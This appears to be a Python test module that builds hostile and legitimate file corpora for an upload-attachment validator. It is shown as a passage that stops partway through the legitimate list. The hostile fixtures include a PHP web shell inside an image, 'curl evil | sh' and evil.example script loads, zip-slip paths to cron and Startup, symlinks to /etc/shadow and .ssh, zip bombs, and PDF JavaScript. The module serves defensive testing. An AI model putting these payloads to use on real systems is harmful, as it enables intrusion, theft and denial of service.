"""Two corpora for the attachment inspections, built in the test run (the repository stays small).

``HOSTILE``: files an attacker sends (polyglots, pixel floods, zip bombs,
archives that climb out of their folder, disguised pages and programs, PDFs
that run scripts, damaged images); each must be refused with a message that
contains ``rule``. ``LEGITIMATE``: files customers really send (photos, scans,
screenshots, PDFs, Office files, text in the encodings Windows and Excel write,
archives of logs); each must be accepted. Builders are cached: the zip bombs
are made once a session, without compressing a gigabyte (see ``deflated_zeros``).
"""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from PIL import Image, ImageDraw, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.attachments.files import EXCEL_97, GIF, JPEG, PDF, PNG, RAR, WORD_97, bmp, ole2

MB = 1024 * 1024
SCRIPT = (
    b"<html><body><script>fetch('/api/v1/me/').then(r=>r.text()).then(alert)</script></body></html>"
)


# --- images -----------------------------------------------------------------------------------


def picture(size: tuple[int, int], mode: str = "RGB") -> Image.Image:
    """A photo-like picture: a gradient with shapes, so that it compresses like a real one."""
    base = Image.radial_gradient("L").resize(size)
    image = Image.merge(
        "RGB", (base, base.rotate(90), base.transpose(Image.Transpose.FLIP_LEFT_RIGHT))
    )
    draw = ImageDraw.Draw(image)
    for index in range(12):
        x, y = (index * 97) % size[0], (index * 53) % size[1]
        draw.ellipse(
            (x, y, x + size[0] // 5, y + size[1] // 5), fill=(index * 20, 90, 200 - index * 9)
        )
    draw.text((10, 10), "Error 502: Bad gateway", fill=(255, 255, 255))
    return image.convert(mode)


def saved(image: Image.Image, image_format: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, image_format, **options)
    return buffer.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of_zeros(width: int, height: int, bit_depth: int = 1) -> bytes:
    """A real, decodable grey PNG of zeros: a decompression bomb when it is large."""
    row = b"\x00" * (1 + (width * bit_depth + 7) // 8)
    compressor = zlib.compressobj(9)
    rows = 4096
    idat = b"".join(
        compressor.compress(row * min(rows, height - y)) for y in range(0, height, rows)
    )
    idat += compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, bit_depth, 0, 0, 0, 0)
    return PNG[:8] + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def png_declaring(width: int, height: int) -> bytes:
    """A PNG header claiming a size its (few) pixels do not fill: a pixel flood."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        PNG[:8]
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + png_chunk(b"IEND", b"")
    )


def png_with_text(kind: bytes, data: bytes) -> bytes:
    return PNG[:33] + png_chunk(kind, data) + PNG[33:]


def jpeg_declaring(width: int, height: int) -> bytes:
    data = bytearray(saved(picture((16, 16)), "JPEG"))
    sof = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def jpeg_with_comment(comment: bytes) -> bytes:
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return JPEG[:2] + segment + JPEG[2:]


def gif_declaring(screen: tuple[int, int], frame: tuple[int, int, int, int]) -> bytes:
    """A 1-colour GIF whose screen or whose one frame (left, top, width, height) is huge."""
    header = b"GIF89a" + struct.pack("<HHBBB", *screen, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    descriptor = b"\x2c" + struct.pack("<HHHHB", *frame, 0)
    return header + descriptor + b"\x02\x02\x44\x01\x00" + b"\x3b"


def gif_with_comment(comment: bytes) -> bytes:
    return GIF[:-1] + b"\x21\xfe" + bytes([len(comment)]) + comment + b"\x00" + GIF[-1:]


def bmp_rle_declaring(width: int, height: int) -> bytes:
    """An 8-bit run-length BMP: a few bytes can claim any size."""
    pixels = b"\x00\x01"  # end of bitmap
    header_size = 14 + 40 + 4 * 256
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, len(pixels), 2835, 2835, 256, 0)
    palette = b"".join(bytes((i, i, i, 0)) for i in range(256))
    return (
        struct.pack("<2sIHHI", b"BM", header_size + len(pixels), 0, 0, header_size)
        + info
        + palette
        + pixels
    )


def zip_of(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


# --- PDFs -------------------------------------------------------------------------------------

PAGE_TREE = (
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
    b" /Resources << /Font << /F1 5 0 R >> >> >>",
    b"<< /Length 44 >>stream\nBT /F1 24 Tf 72 700 Td (Invoice 118) Tj ET\nendstream",
    b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
)


def pdf_of(catalog: bytes, *more: bytes, prefix: bytes = b"") -> bytes:
    """A PDF with a cross-reference table: object 1 is ``catalog``, 2-5 the page tree, then ``more``."""
    out = bytearray(prefix + b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate((catalog, *PAGE_TREE, *more), start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(offsets) + 1,
        xref,
    )
    return bytes(out)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"


def pdf_with_hidden_object(hidden: bytes) -> bytes:
    """Object 6 (``hidden``) lives inside a compressed object stream, found only by the xref stream."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
    for number, body in enumerate((catalog, *PAGE_TREE), start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    inner = b"6 0 " + hidden
    packed = zlib.compress(inner)
    offsets.append(len(out))
    out += (
        b"7 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>stream\n"
        % len(packed)
    )
    out += packed + b"\nendstream\nendobj\n"
    xref = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offset, 0) for offset in offsets[:5]]
    rows += [struct.pack(">BIH", 2, 7, 0), struct.pack(">BIH", 1, offsets[5], 0)]
    rows += [struct.pack(">BIH", 1, xref, 0)]
    table = b"".join(rows)
    out += (
        b"8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Length %d >>stream\n" % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    )
    return bytes(out)


def pdf_by_pypdf(pages: int = 3, **extras) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if extras.get("metadata"):
        writer.add_metadata({"/Title": "Quarterly report", "/Author": "Alice Anders"})
    if extras.get("outline"):
        writer.add_outline_item(title="Summary", page_number=0)
    if extras.get("link"):
        writer.add_uri(0, "https://status.example.com/", [50, 50, 200, 80])
    if extras.get("password"):
        writer.encrypt(
            user_password=extras["password"], owner_password="owner", algorithm="AES-128"
        )
    if extras.get("owner_only"):
        writer.encrypt(user_password="", owner_password="owner", algorithm="AES-128")
    if extras.get("attachment"):
        writer.add_attachment("payload.exe", b"MZ\x90\x00")
    if extras.get("javascript"):
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert(1)"),
            }
        )
        writer.root_object[NameObject("/OpenAction")] = action
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_of_images() -> bytes:
    first, *rest = [picture((600, 800)), picture((800, 600)), picture((300, 300), "L")]
    return saved(first, "PDF", save_all=True, append_images=rest, resolution=150)


# --- archives ---------------------------------------------------------------------------------


@cache
def deflated_zeros(megabytes: int) -> tuple[bytes, int]:
    """Raw deflate data of ``megabytes`` MiB of zeros, and its CRC-32, in a fraction of a second.

    One MiB is compressed with a full flush, which empties the compressor's
    history: every further MiB compresses to the very same bytes, so the
    stream is that block repeated, then an empty final block.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(MB)) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    zeros = bytes(MB)
    for _ in range(megabytes):
        crc = zlib.crc32(zeros, crc)
    return block * megabytes + compressor.flush(), crc


@dataclass(frozen=True)
class ZipMember:
    name: str
    data: bytes  # as stored
    size: int  # unpacked
    crc: int
    method: int = zipfile.ZIP_STORED
    mode: int = 0o100644
    offset: int | None = None  # share another member's data (an overlapping zip)


def stored(name: str, data: bytes, mode: int = 0o100644) -> ZipMember:
    return ZipMember(name, data, len(data), zlib.crc32(data), mode=mode)


def zip_raw(members: list[ZipMember]) -> bytes:
    """A zip written field by field, so that names, modes and sizes can be anything."""
    out = bytearray()
    central = bytearray()
    for member in members:
        name = member.name.encode()
        offset = member.offset
        if offset is None:
            offset = len(out)
            out += struct.pack(
                "<4s5H3I2H", b"PK\x03\x04", 20, 0x800, member.method, 0, 33,
                member.crc, len(member.data), member.size, len(name), 0,
            ) + name + member.data  # fmt: skip
        central += struct.pack(
            "<4s6H3I5H2I", b"PK\x01\x02", 0x0314, 20, 0x800, member.method, 0, 33,
            member.crc, len(member.data), member.size, len(name), 0, 0, 0, 0,
            member.mode << 16, offset,
        ) + name  # fmt: skip
    end = struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), len(out), 0
    )
    return bytes(out + central + end)


def zip_bomb(megabytes: int, name: str = "zeros.bin", extra: tuple[ZipMember, ...] = ()) -> bytes:
    data, crc = deflated_zeros(megabytes)
    bomb = ZipMember(name, data, megabytes * MB, crc, method=zipfile.ZIP_DEFLATED)
    return zip_raw([*extra, bomb])


def zip_overlapping() -> bytes:
    """Three names for one compressed block (the trick of small, non-recursive zip bombs)."""
    data, crc = deflated_zeros(4)
    first = ZipMember("a.bin", data, 4 * MB, crc, method=zipfile.ZIP_DEFLATED)
    return zip_raw(
        [first]
        + [ZipMember(f"{n}.bin", data, 4 * MB, crc, zipfile.ZIP_DEFLATED, offset=0) for n in "bc"]
    )


def zip_of_many(count: int) -> bytes:
    return zip_raw([stored(f"logs/{index}.log", b"") for index in range(count)])


def zip_marked_zip64(archive: bytes) -> bytes:
    """The end record's entry counts set to 0xFFFF, as writers do that always use zip64."""
    end = archive.rindex(b"PK\x05\x06")
    return archive[: end + 8] + b"\xff\xff\xff\xff" + archive[end + 12 :]


def tar_of(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for info, content in members:
            info.size = len(content) if info.isreg() else 0
            archive.addfile(info, io.BytesIO(content) if info.isreg() else None)
    return buffer.getvalue()


def member(
    name: str, kind: bytes = tarfile.REGTYPE, link: str = "", mode: int = 0o644
) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode, info.mtime = kind, link, mode, 1_790_000_000
    return info


def tar_of_many(count: int) -> bytes:
    return tar_of(*((member(f"logs/{index}.log"), b"") for index in range(count)))


def tar_lying() -> bytes:
    info = member("disk.img")
    info.size = 1024 * MB
    return info.tobuf(tarfile.USTAR_FORMAT) + b"\x00" * 1024


def _vint(number: int) -> bytes:
    out = bytearray()
    while True:
        low, number = number & 0x7F, number >> 7
        out.append(low | (0x80 if number else 0))
        if not number:
            return bytes(out)


def _rar_block(
    kind: int, body: bytes, *, extra: bytes = b"", data_size: int | None = None
) -> bytes:
    flags = (1 if extra else 0) | (2 if data_size is not None else 0)
    fields = _vint(kind) + _vint(flags)
    fields += _vint(len(extra)) if extra else b""
    fields += _vint(data_size) if data_size is not None else b""
    header = _vint(len(fields + body + extra)) + fields + body + extra
    return struct.pack("<I", zlib.crc32(header)) + header


def rar_file(name: str, data: bytes = b"", *, size: int | None = None, mode: int = 0o100644, redirect: tuple[int, str] | None = None, directory: bool = False) -> bytes:  # fmt: skip
    """One RAR 5 file header (stored, Unix), with ``redirect`` = (type, target) for links."""
    encoded = name.encode()
    body = _vint(0x4 | (0x1 if directory else 0)) + _vint(len(data) if size is None else size)
    body += _vint(mode) + struct.pack("<I", zlib.crc32(data))
    body += _vint(0) + _vint(1) + _vint(len(encoded)) + encoded
    extra = b""
    if redirect:
        target = redirect[1].encode()
        record = _vint(5) + _vint(redirect[0]) + _vint(0) + _vint(len(target)) + target
        extra = _vint(len(record)) + record
    return _rar_block(2, body, extra=extra, data_size=len(data)) + data


def rar_of(*files: bytes) -> bytes:
    return (
        b"Rar!\x1a\x07\x01\x00"
        + _rar_block(1, _vint(0))
        + b"".join(files)
        + _rar_block(5, _vint(0))
    )


def rar_with_encrypted_names() -> bytes:
    encryption = _rar_block(4, _vint(0) + _vint(0) + bytes([15]) + bytes(range(16)))
    return b"Rar!\x1a\x07\x01\x00" + encryption + bytes(range(256)) * 4


# --- Office files -----------------------------------------------------------------------------

CONTENT_TYPES_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="png" ContentType="image/png"/>'
    '<Override PartName="/{main}" ContentType="{type}"/></Types>'
)
RELS_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="{main}"/></Relationships>'
)


def docx(image: bool = False) -> dict[str, bytes]:
    main = "word/document.xml"
    parts = {
        "[Content_Types].xml": CONTENT_TYPES_XML.format(
            main=main,
            type="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        ),
        "_rels/.rels": RELS_XML.format(main=main),
        main: '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
        'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Steps to reproduce: open the '
        "invoice, press Print.</w:t></w:r></w:p></w:body></w:document>",
        "docProps/core.xml": '<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.'
        'openxmlformats.org/package/2006/metadata/core-properties"/>',
    }
    files = {name: text.encode() for name, text in parts.items()}
    if image:
        files["word/media/image1.png"] = saved(picture((320, 200)), "PNG")
    return files


def xlsx() -> dict[str, bytes]:
    main = "xl/workbook.xml"
    parts = {
        "[Content_Types].xml": CONTENT_TYPES_XML.format(
            main=main,
            type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        ),
        "_rels/.rels": RELS_XML.format(main=main),
        main: '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/'
        'spreadsheetml/2006/main"><sheets><sheet name="Export" sheetId="1" r:id="rId1" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
        "</sheets></workbook>",
        "xl/worksheets/sheet1.xml": '<?xml version="1.0"?><worksheet xmlns="http://schemas.'
        'openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr">'
        '<is><t>Invoice</t></is></c><c r="B1"><v>118</v></c></row></sheetData></worksheet>',
        "xl/styles.xml": '<?xml version="1.0"?><styleSheet xmlns="http://schemas.openxmlformats.'
        'org/spreadsheetml/2006/main"/>',
    }
    return {name: text.encode() for name, text in parts.items()}


# --- the corpora ------------------------------------------------------------------------------

LOG = "".join(
    f"2026-11-22 09:{m:02d}:00 ERROR upstream timed out (502) request={m}\n" for m in range(60)
)


@dataclass(frozen=True)
class Hostile:
    name: str
    build: Callable[[], bytes]
    rule: str  # words the refusal must contain


POLYGLOT = "has web page code (HTML or script) hidden in it"
TRAILING = "of other data after the end of the image"
DAMAGED_IMAGE = "is damaged or incomplete: it could not be read as an image"
FLOOD = "images can be at most 40 megapixels"
JAVASCRIPT = "contains JavaScript"
OUTSIDE = "which points outside the archive"
ABSOLUTE = "an absolute path"
LINK = "archives with links are not accepted"
UNPACK = "archives can unpack to at most 500 MB"
WEB_PAGE = "is a web page (HTML), not plain text"


MACROS = "contains macros (a Visual Basic project), and files with macros are not accepted"
# The signature and a header, and nothing after: not a document.
OLE2_HEADER_ONLY = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff" + bytes(482)
)


def not_real(extension: str) -> str:
    return f"is not a real .{extension} file"


# One line a file: the corpora read as tables.
# fmt: off
HOSTILE = [
    # Images carrying a page or an archive.
    Hostile("after-iend.png", lambda: PNG + SCRIPT, POLYGLOT),
    Hostile("text-chunk.png", lambda: png_with_text(b"tEXt", b"Comment\x00" + SCRIPT), POLYGLOT),
    Hostile("header-then-page.png", lambda: PNG[:8] + SCRIPT, POLYGLOT),
    Hostile("after-eoi.jpg", lambda: JPEG + SCRIPT, POLYGLOT),
    Hostile("comment.jpeg", lambda: jpeg_with_comment(SCRIPT), POLYGLOT),
    Hostile("header-then-page.jpg", lambda: JPEG[:20] + SCRIPT, POLYGLOT),
    Hostile("comment.gif", lambda: gif_with_comment(b"<svg onload=alert(1)>"), POLYGLOT),
    Hostile("after-trailer.gif", lambda: GIF + SCRIPT, POLYGLOT),
    Hostile("header-then-page.gif", lambda: b"GIF89a" + SCRIPT, POLYGLOT),
    Hostile("page.bmp", lambda: bmp() + b"<?php system($_GET['c']); ?>", POLYGLOT),
    Hostile("svg-in.png", lambda: PNG + b'<svg xmlns="http://www.w3.org/2000/svg"/>', POLYGLOT),
    Hostile("gifar.gif", lambda: GIF + zip_of({"META-INF/MANIFEST.MF": b"Main-Class: X\n"}), TRAILING),
    Hostile("zip-after.png", lambda: PNG + zip_of({"x.exe": b"MZ"}), TRAILING),
    Hostile("garbage-after.jpg", lambda: JPEG + bytes(range(256)), TRAILING),
    Hostile("garbage-after.bmp", lambda: bmp() + bytes(range(1, 200)), TRAILING),
    # Pixel floods, several sizes, and a real decompression bomb.
    Hostile("flood-50000.png", lambda: png_declaring(50_000, 50_000), "is 50000 × 50000 pixels"),
    Hostile("flood-6400.png", lambda: png_of_zeros(6400, 6400, 8), "is 6400 × 6400 pixels (41 megapixels)"),
    Hostile("bomb-20000.png", lambda: png_of_zeros(20_000, 20_000), "is 20000 × 20000 pixels"),
    Hostile("flood.jpg", lambda: jpeg_declaring(65_000, 65_000), "is 65000 × 65000 pixels"),
    Hostile("flood-screen.gif", lambda: gif_declaring((65_535, 65_535), (0, 0, 1, 1)), FLOOD),
    Hostile("flood-frame.gif", lambda: gif_declaring((1, 1), (0, 0, 60_000, 60_000)), FLOOD),
    Hostile("flood-rle.bmp", lambda: bmp_rle_declaring(9000, 9000), "is 9000 × 9000 pixels"),
    Hostile("ztxt-bomb.png", lambda: png_with_text(b"zTXt", b"Raw profile\x00\x00" + zlib.compress(bytes(8 * MB))), DAMAGED_IMAGE),
    # Damaged and truncated images.
    Hostile("truncated.png", lambda: saved(picture((200, 200)), "PNG")[:-300], DAMAGED_IMAGE),
    Hostile("truncated.jpg", lambda: saved(picture((200, 200)), "JPEG")[:-200], DAMAGED_IMAGE),
    Hostile("truncated.gif", lambda: saved(picture((200, 200)), "GIF")[:-100], DAMAGED_IMAGE),
    Hostile("bad-crc.png", lambda: PNG[:-16] + b"\x00\x00\x00\x00" + PNG[-12:], DAMAGED_IMAGE),
    Hostile("empty-scan.jpg", lambda: JPEG[:-2], DAMAGED_IMAGE),
    # Something else under an allowed name.
    Hostile("page.png", lambda: SCRIPT, not_real("png")),
    Hostile("vector.png", lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', not_real("png")),
    Hostile("program.jpg", lambda: b"MZ\x90\x00\x03" + bytes(300), not_real("jpg")),
    Hostile("setup.pdf", lambda: b"MZ\x90\x00\x03" + bytes(300) + b"This program cannot be run in DOS mode", not_real("pdf")),
    Hostile("daemon.doc", lambda: b"\x7fELF\x02\x01\x01" + bytes(500), not_real("doc")),
    Hostile("header-only.doc", lambda: OLE2_HEADER_ONLY, not_real("doc")),
    Hostile("sheet-as.doc", lambda: EXCEL_97, not_real("doc")),
    Hostile("letter-as.xls", lambda: WORD_97, not_real("xls")),
    # Office files carrying macros: code that runs when the document is opened.
    Hostile("invoice.doc", lambda: ole2({"WordDocument": b"\xec\xa5", "Macros/VBA/dir": b"\x01", "Macros/VBA/ThisDocument": b"Sub AutoOpen()", "Macros/PROJECT": b"ID="}), MACROS),
    Hostile("payroll.xls", lambda: ole2({"Workbook": b"\x09\x08", "_VBA_PROJECT_CUR/VBA/dir": b"\x01", "_VBA_PROJECT_CUR/VBA/Module1": b"Sub Auto_Open()"}), MACROS),
    Hostile("renamed-docm.docx", lambda: zip_of({**docx(), "word/vbaProject.bin": ole2({"VBA/dir": b"\x01"})}), MACROS),
    Hostile("renamed-xlsm.xlsx", lambda: zip_of({**xlsx(), "xl/vbaProject.bin": ole2({"VBA/dir": b"\x01"})}), MACROS),
    Hostile("elf.zip", lambda: b"\x7fELF\x02\x01\x01" + bytes(500), not_real("zip")),
    Hostile("only-a-zip.docx", lambda: zip_of({"logs/app.log": LOG.encode()}), not_real("docx")),
    Hostile("word-as.xlsx", lambda: zip_of(docx()), not_real("xlsx")),
    Hostile("gzip.tar", lambda: b"\x1f\x8b\x08\x00" + bytes(600), not_real("tar")),
    Hostile("page.txt", lambda: b"<!DOCTYPE html>\n" + SCRIPT, WEB_PAGE),
    Hostile("script.txt", lambda: b"\n  <script src=https://evil.example/x.js></script>", WEB_PAGE),
    Hostile("vector.txt", lambda: b'<?xml version="1.0"?>\n<!-- x -->\n<svg xmlns="http://www.w3.org/2000/svg"/>', WEB_PAGE),
    Hostile("page.csv", lambda: "\ufeff<html><body>id,name</body></html>".encode("utf-16"), WEB_PAGE),
    Hostile("binary.txt", lambda: bytes(range(256)) * 4, not_real("txt")),
    Hostile("controls.csv", lambda: b"id,name\n1,\x1b]0;pwned\x07\x08\x08\n", not_real("csv")),
    # PDFs that run something or hide something.
    Hostile("open-action.pdf", lambda: pdf_by_pypdf(1, javascript=True), JAVASCRIPT),
    Hostile("names-tree.pdf", lambda: pdf_of(b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 6 0 R >> >>", b"<< /Names [(init) 7 0 R] >>", b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), JAVASCRIPT),
    Hostile("escaped-name.pdf", lambda: pdf_of(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>"), JAVASCRIPT),
    Hostile("object-stream.pdf", lambda: pdf_with_hidden_object(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), JAVASCRIPT),
    Hostile("launch.pdf", lambda: pdf_of(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>"), "contains a Launch action"),
    Hostile("embedded.pdf", lambda: pdf_by_pypdf(1, attachment=True), "contains embedded files"),
    Hostile("page-first.pdf", lambda: b"<html><body>hi</body></html>\n" + PDF, "before its PDF header"),
    Hostile("no-pages.pdf", lambda: pdf_by_pypdf(0), "has no pages"),
    Hostile("broken.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 8, "could not be read as a PDF"),
    Hostile("password.pdf", lambda: pdf_by_pypdf(1, password="s3cret"), "is protected by a password"),
    # Zip bombs and archives that climb out of their folder.
    Hostile("bomb-1gib.zip", lambda: zip_bomb(1024), "would unpack to 1024 MB; " + UNPACK),
    Hostile("bomb-ratio.zip", lambda: zip_bomb(300), "archives can expand at most 100 times"),
    Hostile("overlap.zip", zip_overlapping, "has entries that overlap each other"),
    Hostile("bomb.docx", lambda: zip_bomb(600, "word/media/image1.png", tuple(stored(n, d) for n, d in docx().items())), UNPACK),
    Hostile("up.zip", lambda: zip_raw([stored("../../etc/cron.d/job", b"* * * * * root sh\n")]), OUTSIDE),
    Hostile("windows-up.zip", lambda: zip_raw([stored("..\\..\\Startup\\run.bat", b"calc\r\n")]), OUTSIDE),
    Hostile("absolute.zip", lambda: zip_raw([stored("/etc/passwd", b"root:x:0:0\n")]), ABSOLUTE),
    Hostile("drive.zip", lambda: zip_raw([stored("C:\\Windows\\evil.dll", b"MZ")]), ABSOLUTE),
    Hostile("symlink.zip", lambda: zip_raw([stored("home", b"/root/.ssh", mode=0o120777)]), LINK),
    Hostile("up.docx", lambda: zip_raw([stored(n, d) for n, d in docx().items()] + [stored("../x.xml", b"<x/>")]), OUTSIDE),
    Hostile("many.zip", lambda: zip_of_many(10_001), "has more than 10,000 entries"),
    Hostile("up.tar", lambda: tar_of((member("../../.bashrc"), b"curl evil | sh\n")), OUTSIDE),
    Hostile("absolute.tar", lambda: tar_of((member("/etc/shadow"), b"root::0:0\n")), ABSOLUTE),
    Hostile("symlink.tar", lambda: tar_of((member("config", tarfile.SYMTYPE, "/etc"), b"")), LINK),
    Hostile("hardlink.tar", lambda: tar_of((member("notes.txt"), b"x\n"), (member("shadow", tarfile.LNKTYPE, "/etc/shadow"), b"")), LINK),
    Hostile("device.tar", lambda: tar_of((member("disk", tarfile.BLKTYPE), b"")), "“disk”, a device"),
    Hostile("pipe.tar", lambda: tar_of((member("fifo", tarfile.FIFOTYPE), b"")), "“fifo”, a pipe"),
    Hostile("many.tar", lambda: tar_of_many(10_001), "has more than 10,000 entries"),
    Hostile("lying.tar", tar_lying, "an entry ends past the end of the file"),
    Hostile("up.rar", lambda: rar_of(rar_file("../../evil.sh", b"rm -rf ~\n")), OUTSIDE),
    Hostile("symlink.rar", lambda: rar_of(rar_file("keys", mode=0o120777, redirect=(1, "/root/.ssh"))), LINK),
    Hostile("hardlink.rar", lambda: rar_of(rar_file("a.txt", b"a"), rar_file("b.txt", redirect=(4, "/etc/shadow"))), LINK),
    Hostile("huge.rar", lambda: rar_of(rar_file("disk.img", b"\x00" * 64, size=2048 * MB)), UNPACK),
    Hostile("hidden-names.rar", rar_with_encrypted_names, "has an encrypted list of files"),
]
# fmt: on


def _mpf() -> bytes:
    return saved(picture((640, 480)), "MPO", save_all=True, append_images=[picture((160, 120))])


def _png_with_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Software", "Greenshot")
    info.add_itxt("Description", "Fehlermeldung beim Drucken", lang="de")
    return saved(picture((800, 450)), "PNG", pnginfo=info)


def _exif_jpeg() -> bytes:
    exif = Image.Exif()
    exif[0x010F], exif[0x0110], exif[0x0132] = "Canon", "EOS R6", "2026:11:22 09:41:00"
    return saved(picture((1024, 768)), "JPEG", exif=exif, quality=90)


def _frames(count: int, size: tuple[int, int]) -> list[Image.Image]:
    return [picture(size).rotate(index * 30).convert("P") for index in range(count)]


def _animated(image_format: str) -> bytes:
    first, *rest = _frames(8, (240, 160))
    return saved(first, image_format, save_all=True, append_images=rest, duration=120, loop=0)


def _transparent_gif() -> bytes:
    image = picture((120, 120)).convert("P")
    return saved(image, "GIF", transparency=0, comment=b"exported by Paint.NET")


def _tar_with_folder() -> bytes:
    folder = member("report", tarfile.DIRTYPE, mode=0o755)
    return tar_of(
        (folder, b""),
        (member("report/app.log"), LOG.encode()),
        (member("report/über-fehler.txt"), "Grüße\n".encode()),
        (member("report/" + "long-name-" * 12 + ".log"), b"ok\n"),
    )


# fmt: off
LEGITIMATE: dict[str, Callable[[], bytes]] = {
    # Photos and screenshots.
    "photo.jpg": lambda: saved(picture((640, 480)), "JPEG"),
    "camera-6mp.jpg": lambda: saved(picture((3000, 2000)), "JPEG", quality=85),
    "progressive.jpg": lambda: saved(picture((800, 600)), "JPEG", progressive=True),
    "exif.jpeg": _exif_jpeg,
    "grey.jpg": lambda: saved(picture((400, 300), "L"), "JPEG"),
    "cmyk.jpg": lambda: saved(picture((300, 200), "CMYK"), "JPEG"),
    "best-quality.jpg": lambda: saved(picture((500, 500)), "JPEG", quality=95, subsampling=0),
    "tiny.jpg": lambda: JPEG,
    "camera-mpf.jpg": _mpf,
    "screenshot-1080p.png": lambda: saved(picture((1920, 1080)), "PNG"),
    "alpha.png": lambda: saved(picture((300, 300), "RGBA"), "PNG"),
    "palette.png": lambda: saved(picture((300, 300)).convert("P"), "PNG"),
    "palette-transparent.png": lambda: saved(picture((64, 64)).convert("P"), "PNG", transparency=0),
    "grey-16bit.png": lambda: saved(picture((200, 200), "L").convert("I;16"), "PNG"),
    "bilevel.png": lambda: saved(picture((500, 300), "1"), "PNG"),
    "with-text.png": _png_with_text,
    "animated.png": lambda: _animated("PNG"),
    "one-pixel.png": lambda: PNG,
    "animated.gif": lambda: _animated("GIF"),
    "still.gif": lambda: saved(picture((320, 240)).convert("P"), "GIF"),
    "transparent.gif": _transparent_gif,
    "one-pixel.gif": lambda: GIF,
    "scan-24bit.bmp": lambda: saved(picture((333, 250)), "BMP"),
    "scan-8bit.bmp": lambda: saved(picture((333, 250)).convert("P"), "BMP"),
    "scan-1bit.bmp": lambda: saved(picture((333, 250), "1"), "BMP"),
    "one-pixel.bmp": bmp,
